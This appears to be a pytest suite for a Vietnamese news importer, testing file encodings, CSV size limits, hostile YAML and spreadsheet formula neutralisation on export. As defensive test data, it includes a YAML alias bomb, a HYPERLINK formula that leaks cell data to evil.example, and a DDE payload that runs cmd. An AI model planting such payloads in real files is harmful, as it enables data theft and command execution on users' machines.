"""What an import file may be: its encodings, hostile CSV and YAML, the body limit, and the
CSV export that a spreadsheet opens without running anything.

Every file is written by the test itself, byte for byte, in the encoding under test.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import pytest
import yaml
from sqlmodel import select

from content.db import Database
from content.errors import InvalidInput
from content.export import export_csv
from content.import_files import MAX_YAML_DEPTH, neutralise_formula, restore_formula
from content.importer import Importer
from content.inputs import BODY_MAX
from content.media import MediaStore
from content.models import Post
from content.posts import PostService
from content.timeutil import zone
from scheduler.publication import channel_checker
from tests.factories import VOCABULARY, Clock, seed

TZ = zone("Asia/Ho_Chi_Minh")
TITLE = "Hội thảo “Huế - Thành phố Văn hóa ASEAN”: đổi mới, sáng tạo, ước mơ"
HEADER = "title,body,topic,department,channels\n"
TONES = "\u0300\u0301\u0303\u0309\u0323"


def titles(db: Database) -> list[str]:
    with db.read() as session:
        return list(session.exec(select(Post.title)).all())


def one_problem(error: pytest.ExceptionInfo[InvalidInput]) -> tuple[str, str, str]:
    assert len(error.value.problems) == 1, error.value.problems
    found = error.value.problems[0]
    return found.field, found.vi, found.en


def cp1258(text: str) -> bytes:
    """Text as Windows writes it in Windows-1258: a letter without its tone, then the tone mark.

    Python's codec maps characters one to one, so a precomposed "ộ" must be split first.
    """
    out = bytearray()
    for char in text:
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", char)
            base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONES))
            out += (base + "".join(c for c in parts if c in TONES)).encode("cp1258")
    return bytes(out)


def csv_text(title: str = TITLE, body: str = "Nội dung") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([title, body, "i", "STTTT", "web-asean"])
    return HEADER + buffer.getvalue()


# --- encodings -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(csv_text().encode("utf-8"), id="utf-8"),
        pytest.param(csv_text().encode("utf-8-sig"), id="utf-8 with BOM"),
        pytest.param(csv_text().encode("utf-16"), id="utf-16 with BOM"),
        pytest.param(b"\xfe\xff" + csv_text().encode("utf-16-be"), id="utf-16 big-endian BOM"),
        pytest.param(cp1258(csv_text()), id="windows-1258"),
    ],
)
def test_the_encodings_vietnamese_offices_use_are_detected(
    raw: bytes, importer: Importer, posts: PostService, db: Database, tmp_path: Path
) -> None:
    path = tmp_path / "bai.csv"
    path.write_bytes(raw)
    importer.run(posts.actor("bientap"), path)
    assert titles(db) == [TITLE]  # composed again, exactly as typed (cp1258 splits the tones)


def test_windows_1258_really_is_another_byte_sequence() -> None:
    raw = cp1258(csv_text())
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")
    assert "\u0301" in raw.decode("cp1258")  # the tone mark is its own character there


def test_an_encoding_named_on_the_command_line_is_used(
    importer: Importer, posts: PostService, db: Database, tmp_path: Path
) -> None:
    path = tmp_path / "bai.csv"
    path.write_bytes(cp1258(csv_text()))
    importer.run(posts.actor("bientap"), path, encoding="cp1258")
    assert titles(db) == [TITLE]


@pytest.mark.parametrize(
    ("raw", "encoding", "english"),
    [
        # Western European text has no Vietnamese letter: not guessed as cp1258.
        (
            (HEADER + "Café crème, déjà vu").encode("cp1252"),
            None,
            "cannot tell the file's encoding",
        ),
        (b"PK\x03\x04\x14\x00\x00\x00", None, "Excel workbook"),
        (cp1258(csv_text()), "utf-8", "the file is not utf-8: unreadable bytes on line 2"),
        (csv_text().encode("utf-8"), "klingon", "unknown encoding 'klingon'"),
        (csv_text().encode("utf-8"), "rot13", "unknown encoding 'rot13'"),
    ],
)
def test_any_other_encoding_is_one_clear_problem(
    raw: bytes,
    encoding: str | None,
    english: str,
    importer: Importer,
    posts: PostService,
    db: Database,
    tmp_path: Path,
) -> None:
    path = tmp_path / "bai.csv"
    path.write_bytes(raw)
    with pytest.raises(InvalidInput) as refused:
        importer.run(posts.actor("bientap"), path, encoding=encoding)
    field, vi, en = one_problem(refused)
    assert field == "encoding" and english in en
    assert "bảng mã" in vi
    assert titles(db) == []


# --- hostile CSV ---------------------------------------------------------------------------


def test_a_cell_over_the_csv_field_limit_is_a_problem_not_a_crash(
    importer: Importer, posts: PostService, tmp_path: Path
) -> None:
    path = tmp_path / "dai.csv"
    path.write_text(csv_text(body="x" * 131_073), encoding="utf-8")
    with pytest.raises(InvalidInput) as refused:
        importer.run(posts.actor("bientap"), path)
    field, vi, en = one_problem(refused)
    assert field == "csv" and "over 131,072 characters" in en and "131.072 ký tự" in vi


def test_the_body_limit_of_an_import_is_the_apis(
    importer: Importer, posts: PostService, db: Database, tmp_path: Path
) -> None:
    assert BODY_MAX == 100_000
    path = tmp_path / "dai.csv"
    path.write_text(
        csv_text(body="x" * BODY_MAX)
        + csv_text(title="Quá dài", body="x" * (BODY_MAX + 1))[len(HEADER) :],
        encoding="utf-8",
    )
    with pytest.raises(InvalidInput) as refused:
        importer.run(posts.actor("bientap"), path)
    assert [(p.where, p.field) for p in refused.value.problems] == [("row 3", "body")]
    assert "100,001 characters; at most 100,000" in refused.value.problems[0].en
    assert "100.001 ký tự, tối đa 100.000" in refused.value.problems[0].vi
    assert titles(db) == []


# --- hostile YAML ----------------------------------------------------------------------------

BILLION_LAUGHS = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
posts: [{title: *i, topic: a, department: STTTT, channels: web-asean}]
"""


def test_a_yaml_alias_bomb_is_refused_before_anything_is_built(
    importer: Importer, posts: PostService, db: Database, tmp_path: Path
) -> None:
    path = tmp_path / "bom.yaml"
    path.write_text(BILLION_LAUGHS, encoding="utf-8")
    assert path.stat().st_size < 1024
    with pytest.raises(InvalidInput) as refused:
        importer.run(posts.actor("bientap"), path)
    field, vi, en = one_problem(refused)
    assert field == "yaml" and "anchors or aliases" in en and "bí danh" in vi
    assert refused.value.problems[0].where == "line 1"
    assert titles(db) == []


def test_a_single_anchor_is_refused_too(
    importer: Importer, posts: PostService, tmp_path: Path
) -> None:
    path = tmp_path / "neo.yaml"
    path.write_text(
        "- &bai {title: Bài, topic: a, department: STTTT, channels: web-asean}\n", encoding="utf-8"
    )
    with pytest.raises(InvalidInput) as refused:
        importer.run(posts.actor("bientap"), path)
    assert one_problem(refused)[0] == "yaml"


@pytest.mark.parametrize("depth", [MAX_YAML_DEPTH + 1, 100_000])
def test_deeply_nested_yaml_is_refused_without_exhausting_the_stack(
    depth: int, importer: Importer, posts: PostService, tmp_path: Path
) -> None:
    path = tmp_path / "sau.yaml"
    path.write_text("[" * depth + "]" * depth, encoding="utf-8")
    with pytest.raises(InvalidInput) as refused:
        importer.run(posts.actor("bientap"), path)
    field, _, en = one_problem(refused)
    assert field == "yaml" and f"deeper than {MAX_YAML_DEPTH} levels" in en


def test_yaml_as_deep_as_a_post_needs_still_reads(
    importer: Importer, posts: PostService, db: Database, tmp_path: Path
) -> None:
    path = tmp_path / "bai.yaml"
    path.write_text(
        f"posts:\n  - title: '{TITLE}'\n    topic: i\n    department: STTTT\n"
        "    channels: [web-asean]\n    overrides: {web-asean: {hashtags: [Hue, ASEAN]}}\n",
        encoding="utf-16",
    )
    importer.run(posts.actor("bientap"), path)
    assert titles(db) == [TITLE]


# --- formulas in the CSV export --------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
    "+84 234 3822 123",
    "-5 độ C ở A Lưới",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=đã có dấu nháy",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_one_apostrophe_that_import_removes(
    value: str,
) -> None:
    written = neutralise_formula(value)
    assert written == "'" + value
    assert restore_formula(written) == value
    assert neutralise_formula("Bình thường = an toàn") == "Bình thường = an toàn"
    assert restore_formula("'trích dẫn") == "'trích dẫn"


def test_the_export_writes_no_live_formula_and_imports_back_unchanged(
    importer: Importer,
    posts: PostService,
    db: Database,
    store: MediaStore,
    tmp_path: Path,
    clock: Clock,
) -> None:
    # A title holds no tab or line break: those go in the body only.
    records = [
        {"title": v.strip(), "body": v, "topic": "a", "department": "STTTT",
         "channels": "web-asean", "audience": v.strip()}
        for v in FORMULAS
    ]  # fmt: skip
    path = tmp_path / "bai.yaml"
    path.write_text(yaml.safe_dump(records, allow_unicode=True), encoding="utf-8")
    importer.run(posts.actor("bientap"), path)
    with db.read() as session:
        text = export_csv(session, TZ, store)
    for row in csv.DictReader(io.StringIO(text, newline="")):
        for column in ("title", "body", "audience"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
    exported = tmp_path / "xuat.csv"
    exported.write_text(text, encoding="utf-8-sig", newline="")
    fresh = Database(f"sqlite:///{tmp_path / 'fresh.db'}")
    fresh.upgrade()
    seed(fresh)
    again = PostService(fresh, VOCABULARY, TZ, checker=channel_checker(store.path_of), clock=clock)
    Importer(again, store).run(again.actor("bientap"), exported)
    with db.read() as first, fresh.read() as second:
        original = sorted((p.title, p.body, p.audience) for p in first.exec(select(Post)).all())
        copied = sorted((p.title, p.body, p.audience) for p in second.exec(select(Post)).all())
    fresh.dispose()
    assert copied == original
